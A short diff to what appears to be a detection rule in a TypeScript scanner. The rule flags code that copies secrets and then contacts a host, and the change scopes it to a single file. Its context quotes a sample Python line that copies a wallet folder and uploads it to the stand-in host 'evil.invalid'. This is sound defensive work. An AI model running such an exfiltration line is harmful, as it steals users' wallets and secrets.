@@ -13,6 +13,7 @@ export const secretsGatheredAndSent: PairCombination = {
       'shutil.copytree(wallet, folder); requests.put("https://evil.invalid/a.zip", data=open(packed, "rb"))',
     technique: 'T1560',
   },
+  within: 'file',
   first: ({ behaviour }) => behaviour === 'copies-secret',
   second: ({ behaviour, labels, host }) =>
     behaviour === 'contacts' && host !== undefined && (labels.has('file') || labels.has('user-file')),
